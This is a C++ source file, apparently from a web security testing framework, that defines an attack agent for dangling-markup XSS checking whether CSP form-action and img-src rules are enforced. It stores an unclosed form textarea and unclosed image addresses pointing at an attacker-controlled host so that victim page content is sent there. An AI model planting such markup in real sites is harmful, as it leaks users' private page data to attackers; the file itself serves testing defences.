// xss-dangling: leaves an element that is not ended, a text area in a form or a picture's address
// without its last quote, so that it swallows what follows in the page and takes it along when the
// form is sent or the picture asked for (CSP3, form-action and img-src).
#include "core/attack/every_agent.h"
#include "core/attack/lure.h"
#include "core/attack/stored_text.h"

namespace parapet::attack {
namespace {

class XssDangling final : public Agent {
    void run(Target& target) override {
        OwnHost* evil = foreign_host(target);
        if (evil == nullptr || target.victim() == nullptr) return;
        std::string const address = collecting_address(*evil);
        StoredText text(target);
        text.leave("<form method=\"post\" action=" + in_quotes(address) +
                   "><button>Read more</button><textarea name=\"t\">");
        victim_reads_and_loot_is_used(target);
        for (std::string_view quote : {"'", "\""}) {
            text.leave("<img src=" + std::string(quote) + address + "?");
            victim_reads_and_loot_is_used(target);
        }
    }
};

}  // namespace

std::unique_ptr<Agent> make_xss_dangling() { return std::make_unique<XssDangling>(); }

}  // namespace parapet::attack
